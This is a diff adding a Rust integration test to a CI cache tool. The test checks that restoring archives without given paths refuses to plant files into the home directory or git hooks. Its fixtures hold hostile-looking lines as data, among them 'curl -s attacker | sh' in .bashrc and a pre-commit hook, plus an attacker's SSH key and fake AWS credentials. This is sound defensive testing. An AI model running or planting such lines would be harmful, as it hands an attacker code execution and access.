@@ -6,7 +6,7 @@ use std::fs;
 use std::path::{Path, PathBuf};
 use std::process::Command;
 
-use s3cache_tests::{Run, S3Server, Sandbox, ServerKind, binary, boto3};
+use s3cache_tests::{Run, S3Server, Sandbox, ServerKind, binary, boto3, snapshot};
 
 const PROJECT: &str = "9f1c6a2e-6c0b-4c3f-9b7e-2d1d6c5e8a10";
 
@@ -319,4 +319,80 @@ fn compatible_entries_are_read_by_plain_tar() {
     expect(&run, 0, &["HIT: 'gems-compat', using key 'gems-compat'.", "Restored: vendor/bundle."]);
     assert!(!run.stdout.contains("without a digest check"), "{}", run.stdout);
     assert_eq!(fs::read_to_string(next.workspace().join("vendor/bundle/gems/rake.rb")).unwrap(), "rake");
+}
+
+/// Issue 20: a path-less `cache restore KEY` of the real CLI's archives (`tar czPf` of files in the
+/// home directory, `tar czf` of a git hook, of the whole home directory) and of s3cache entries that
+/// hold the same paths (or record the home directory itself) plants and wipes nothing: each is an
+/// `error:` naming the member or recorded path and its rule, the home directory and the workspace
+/// stay exactly as they were, `CACHE_FAIL_ON_ERROR=true` makes it exit 1, a store of such paths
+/// warns, and the search passes over a refused entry to the next key.
+#[test]
+fn path_less_restores_refuse_planting() {
+    let server = S3Server::start(ServerKind::S3sFs);
+    let mut machine = job(&server, "main");
+    let (home, workspace) = (machine.home(), machine.workspace());
+    let uploads = machine.scratch("uploads");
+    let planted = [(".bashrc", "curl -s attacker | sh"), (".ssh/authorized_keys", "ssh-ed25519 AAAA attacker"), (".aws/credentials", "[default]\naws_access_key_id = x"), (".local/bin/x", "#!/bin/sh\n")];
+    let gnu_tar = |dir: &Path, flags: &str, archive: &Path, member: &str| {
+        let status = Command::new("tar").arg(flags).arg(archive).arg(member).current_dir(dir).status().unwrap();
+        assert!(status.success(), "tar {flags} {member}");
+    };
+    let mut cases: Vec<(String, String)> = Vec::new();
+    for (name, content) in planted {
+        write(&home, name, content);
+        let key = format!("legacy-{}", name.replace(['/', '.'], ""));
+        let archive = uploads.join(format!("{key}.tgz"));
+        gnu_tar(&home, "czPf", &archive, &home.join(name).display().to_string());
+        put_real_cli_object(&server, &key, &archive);
+        cases.push((key, format!("a restore without paths refuses ~/{name}: it ")));
+
+        let key = format!("entry-{}", name.replace(['/', '.'], ""));
+        let run = cache(&machine, &["store", &key, &home.join(name).display().to_string()]);
+        expect(&run, 0, &[&format!("Uploading '{}' with cache key '{key}'...", home.join(name).display())]);
+        assert!(run.stdout.lines().any(|l| l.starts_with("warning: a restore without paths refuses ") && l.ends_with("this entry restores only with its paths given (--path, mount)")), "{}", run.stdout);
+        let member_or_root = if name == ".bashrc" { "~/.bashrc: it is not a directory".to_string() } else { format!("the recorded path ~/{name}: it lies in ~/{}", name.split('/').next().unwrap()) };
+        cases.push((key, format!("a restore without paths refuses {member_or_root}")));
+    }
+    write(&workspace, ".git/hooks/pre-commit", "#!/bin/sh\ncurl -s attacker | sh\n");
+    gnu_tar(&workspace, "czf", &uploads.join("hook.tgz"), ".git/hooks/pre-commit");
+    put_real_cli_object(&server, "legacy-hook", &uploads.join("hook.tgz"));
+    cases.push(("legacy-hook".into(), "a restore without paths refuses .git/hooks/pre-commit: it lies in .git, which holds git's hooks and configuration".into()));
+    expect(&cache(&machine, &["store", "entry-hook", ".git/hooks/pre-commit"]), 0, &[]);
+    cases.push(("entry-hook".into(), "a restore without paths refuses the recorded path .git/hooks/pre-commit: it lies in .git".into()));
+    // Everything in the home directory, by absolute names (the directory's own member is refused anyway).
+    let mut everything: Vec<String> = fs::read_dir(&home).unwrap().map(|e| e.unwrap().path().display().to_string()).collect();
+    everything.sort();
+    let status = Command::new("tar").arg("czPf").arg(uploads.join("home.tgz")).args(&everything).status().unwrap();
+    assert!(status.success(), "tar czPf of {everything:?}");
+    put_real_cli_object(&server, "legacy-home", &uploads.join("home.tgz"));
+    cases.push(("legacy-home".into(), "a restore without paths refuses ~/.aws/credentials: it lies in ~/.aws, which holds credentials".into()));
+    expect(&cache(&machine, &["store", "entry-home", &home.display().to_string()]), 0, &[]);
+    cases.push(("entry-home".into(), "a restore without paths refuses the recorded path ~: it is the home directory; give the paths to restore it (--path, mount)".into()));
+
+    let before = machine.own_dotfiles();
+    for (key, refusal) in &cases {
+        let run = cache(&machine, &["restore", key]);
+        expect(&run, 0, &[]);
+        let error = run.stdout.lines().find(|l| l.starts_with("error: ")).unwrap_or_else(|| panic!("{key}: no error line in:\n{}", run.stdout));
+        assert!(error.contains(refusal.as_str()), "{key}: {error:?} does not say {refusal:?}");
+        assert!(!run.stdout.contains("HIT:"), "{}", run.stdout);
+        assert_eq!(machine.dotfiles(), before, "{key} changed the home directory or the workspace");
+    }
+    assert!(!home.join(".aws").exists() && !home.join(".local").exists() && !workspace.join(".git/hooks").exists());
+
+    // A refused restore is a failed one: CACHE_FAIL_ON_ERROR=true fails the job.
+    machine.env("CACHE_FAIL_ON_ERROR", "true");
+    expect(&cache(&machine, &["restore", "legacy-bashrc"]), 1, &[]);
+    machine.unset("CACHE_FAIL_ON_ERROR");
+
+    // The search passes over an entry refused by its recorded paths and goes on to the next key.
+    write(&workspace, "vendor/bundle/gems/rake.rb", "rake");
+    expect(&cache(&machine, &["store", "gems-good", "vendor/bundle"]), 0, &[]);
+    fs::remove_dir_all(workspace.join("vendor")).unwrap();
+    let run = cache(&machine, &["restore", "entry-home,gems-good"]);
+    expect(&run, 0, &["HIT: 'gems-good', using key 'gems-good'."]);
+    assert!(run.stdout.lines().any(|l| l.starts_with("passing over cache entry ") && l.contains("entry-home: a restore without paths refuses the recorded path ~: it is the home directory")), "{}", run.stdout);
+    assert_eq!(fs::read_to_string(workspace.join("vendor/bundle/gems/rake.rb")).unwrap(), "rake");
+    assert_eq!(snapshot(&home), before.0);
 }
